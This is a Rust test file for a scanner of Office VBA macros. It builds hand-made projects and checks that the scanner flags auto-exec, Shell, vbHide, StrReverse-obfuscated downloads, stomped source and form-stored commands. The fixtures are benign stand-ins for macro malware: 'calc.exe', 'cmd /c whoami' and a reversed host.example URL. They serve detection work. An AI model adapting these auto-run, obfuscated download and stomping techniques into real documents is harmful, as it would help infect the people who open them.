//! Projects that are made by hand, and what is read of them.

use std::io::{Cursor, Write as _};

use expect_test::{Expect, expect};
use vocab::Limits;

use super::compression::tests::compressed;
use super::directory::tests::directory;
use crate::Budget;
use crate::contents::Contents;
use crate::open::Tools;
use crate::shown::contents_lines;

/// A module to be made: name, compiled code, source, and whether it is plain code.
pub(crate) type Made<'a> = (&'a str, &'a [u8], &'a str, bool);

/// A compound file with these streams; storages are made as the paths need them.
pub(crate) fn compound_file(streams: &[(&str, &[u8])]) -> Vec<u8> {
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    for (path, bytes) in streams {
        let path = format!("/{path}");
        let parent = path.rsplit_once('/').unwrap().0;
        if !parent.is_empty() {
            file.create_storage_all(parent).unwrap();
        }
        file.create_stream(&path).unwrap().write_all(bytes).unwrap();
    }
    file.into_inner().into_inner()
}

/// The streams of a project below a storage, `Macros/` or nothing.
pub(crate) fn project(storage: &str, modules: &[Made<'_>]) -> Vec<(String, Vec<u8>)> {
    let listed: Vec<_> = modules
        .iter()
        .map(|(name, compiled, _, procedural)| {
            (*name, u32::try_from(compiled.len()).unwrap(), *procedural)
        })
        .collect();
    let mut streams = vec![
        (format!("{storage}VBA/dir"), compressed(&directory(&listed))),
        plan(storage, modules),
    ];
    streams.push((format!("{storage}VBA/_VBA_PROJECT"), vec![0xcc, 0x61, 0xff, 0xff, 0, 0, 0]));
    for (name, compiled, source, _) in modules {
        let source = encoding_rs::SHIFT_JIS.encode(source).0;
        let bytes = if source.is_empty() { vec![0; 40] } else { compressed(&source) };
        streams.push((format!("{storage}VBA/{name}"), [compiled, &bytes[..]].concat()));
    }
    streams
}

fn plan(storage: &str, modules: &[Made<'_>]) -> (String, Vec<u8>) {
    let lines: String = modules
        .iter()
        .map(|(name, _, _, procedural)| {
            let kind = if *procedural { "Module=" } else { "Document=" };
            let class = if *procedural { "" } else { "/&H00000000" };
            format!("{kind}{name}{class}\r\n")
        })
        .collect();
    let plan = format!("ID=\"{{0}}\"\r\n{lines}Name=\"VBAProject\"\r\n");
    (format!("{storage}PROJECT"), encoding_rs::SHIFT_JIS.encode(&plan).0.into_owned())
}

pub(crate) fn borrowed(streams: &[(String, Vec<u8>)]) -> Vec<(&str, &[u8])> {
    streams.iter().map(|(path, bytes)| (path.as_str(), bytes.as_slice())).collect()
}

fn read(bytes: &[u8]) -> Contents {
    let limits = Limits::default();
    let budget = Budget::new(&limits);
    let tools =
        Tools { limits: &limits, budget: &budget, passwords: &[], beside: &[], rules: None };
    let mut contents = Contents::new(&limits);
    let modules = super::modules_of_file(bytes, &tools, &mut contents);
    super::report(&modules, &mut contents);
    contents
}

fn check(bytes: &[u8], expected: &Expect) {
    expected.assert_eq(&contents_lines(&read(bytes)));
}

const OPENS: &str = "Attribute VB_Name = \"ThisDocument\"\r\nAttribute VB_Base = \"1Normal\"\r\n\
    Sub Document_Open()\r\n  ' 見積書\r\n  Shell \"calc.exe\", vbHide\r\nEnd Sub\r\n";
const LOADS: &str = "Attribute VB_Name = \"取得\"\r\nSub Load()\r\n  Set h = CreateObject(\"MSXML2.\" \
    & \"XMLHTTP\")\r\n  h.Open \"GET\", StrReverse(\"a/elpmaxe.tsoh//:ptth\")\r\nEnd Sub\r\n";

#[test]
fn modules_with_what_they_can_do() {
    let modules = [("ThisDocument", &[0; 9][..], OPENS, false), ("取得", &[], LOADS, true)];
    check(
        &compound_file(&borrowed(&project("", &modules))),
        &expect![[r#"
        macros:
        -
            name: ThisDocument
            kind: document
            code: Sub Document_Open()\r\n  \' 見積書\r\n  Shell \"calc.exe\", vbHide\r\nEnd Sub\r\n
        -
            name: 取得
            kind: module
            code: Sub Load()\r\n  Set h = CreateObject(\"MSXML2.\" & \"XMLHTTP\")\r\n  h.Open \"GET\", StrReverse(\"a/elpmaxe.tsoh//:ptth\")\r\nEnd Sub\r\n
        suspicious:
        -
            word: Document_Open
            kind: auto-exec
            name: ThisDocument
        -
            word: Shell
            kind: runs
            name: ThisDocument
        -
            word: vbHide
            kind: hides
            name: ThisDocument
        -
            word: CreateObject
            kind: creates-object
            name: 取得
        -
            word: StrReverse
            kind: obfuscates
            name: 取得
        -
            word: msxml2.xmlhttp
            kind: downloads
            name: 取得
        decoded:
        -
            kind: concatenation
            name: 取得
            text: MSXML2.XMLHTTP
        -
            kind: reverse
            name: 取得
            text: http://host.example/a
        * macros macro:ThisDocument
        * auto-exec macro:ThisDocument
        * runs-command macro:ThisDocument
        * downloads macro:取得
        * obfuscated macro:取得
        Code macro:ThisDocument: Sub Document_Open()\r\n  \' 見積書\r\n  Shell \"calc.exe\", vbHide\r\nEnd Sub\r\n
        Code macro:取得: Sub Load()\r\n  Set h = CreateObject(\"MSXML2.\" & \"XMLHTTP\")\r\n  h.Open \"GET\", StrReverse(\"a/elpmaxe.tsoh//:ptth\")\r\nEnd Sub\r\n
        Code macro:取得: MSXML2.XMLHTTP\nhttp://host.example/a
    "#]],
    );
}

#[test]
fn source_that_was_taken_away_leaves_its_strings() {
    let mut compiled = vec![1, 0x16, 3, 0];
    compiled.extend(b"\xb9\x00\x16\x00http://host.example/a\\");
    compiled.extend(b"\xb9\x00\x08\x00calc.exe\x41\x40");
    let empty = "Attribute VB_Name = \"Module1\"\r\n";
    let other = "Attribute VB_Name = \"Module2\"\r\nSub A()\r\n MsgBox \"calc.exe\"\r\nEnd Sub\r\n";
    let modules = [
        ("Module1", &compiled[..], empty, true),
        ("Module2", &compiled[compiled.len() - 14..], other, true),
        ("Module3", &compiled[..4], "", true),
    ];
    check(
        &compound_file(&borrowed(&project("", &modules))),
        &expect![[r#"
        macros:
        -
            name: Module1
            kind: module
            stomped: true
        -
            name: Module2
            kind: module
            code: Sub A()\r\n MsgBox \"calc.exe\"\r\nEnd Sub\r\n
        -
            name: Module3
            kind: module
            stomped: true
        * macros macro:Module1
        * obfuscated macro:Module1
        Code macro:Module1: http://host.example/a\\\ncalc.exe
        Code macro:Module2: Sub A()\r\n MsgBox \"calc.exe\"\r\nEnd Sub\r\n
    "#]],
    );
}

#[test]
fn damaged_directory_leaves_what_is_found_by_its_mark() {
    let mut streams = project("", &[("ThisDocument", &[7; 30], OPENS, false)]);
    streams[0].1 = b"\x01garbage".to_vec();
    check(
        &compound_file(&borrowed(&streams)),
        &expect![[r#"
        macros:
        -
            name: ThisDocument
            code: Sub Document_Open()\r\n  \' 見積書\r\n  Shell \"calc.exe\", vbHide\r\nEnd Sub\r\n
        suspicious:
        -
            word: Document_Open
            kind: auto-exec
            name: ThisDocument
        -
            word: Shell
            kind: runs
            name: ThisDocument
        -
            word: vbHide
            kind: hides
            name: ThisDocument
        * macros macro:ThisDocument
        * auto-exec macro:ThisDocument
        * runs-command macro:ThisDocument
        Code macro:ThisDocument: Sub Document_Open()\r\n  \' 見積書\r\n  Shell \"calc.exe\", vbHide\r\nEnd Sub\r\n
        ! file-broken stream:dir
    "#]],
    );
    let mut cut = compound_file(&borrowed(&streams));
    cut[..8].fill(0);
    assert_eq!(read(&cut).texts.len(), 1, "no compound file, but the source is there");
}

#[test]
fn texts_of_a_form_are_read() {
    let source =
        "Attribute VB_Name = \"UserForm1\"\r\nSub X()\r\n Shell UserForm1.T.Tag\r\nEnd Sub\r\n";
    let mut streams = project("", &[("UserForm1", &[], source, false)]);
    streams.push(("UserForm1/o".to_owned(), b"\0\x02\x18\0cmd /c whoami\0\0".to_vec()));
    let contents = contents_lines(&read(&compound_file(&borrowed(&streams))));
    assert!(contents.contains("Code macro:UserForm1: cmd /c whoami"), "{contents}");
}

#[test]
fn changed_bytes_never_panic() {
    let modules = [("ThisDocument", &[0; 9][..], OPENS, false), ("取得", &[], LOADS, true)];
    let bytes = compound_file(&borrowed(&project("", &modules)));
    for seed in 0..400 {
        let _ = read(&testkit::mutation::mutate(seed, &bytes, OPENS.as_bytes()));
    }
}
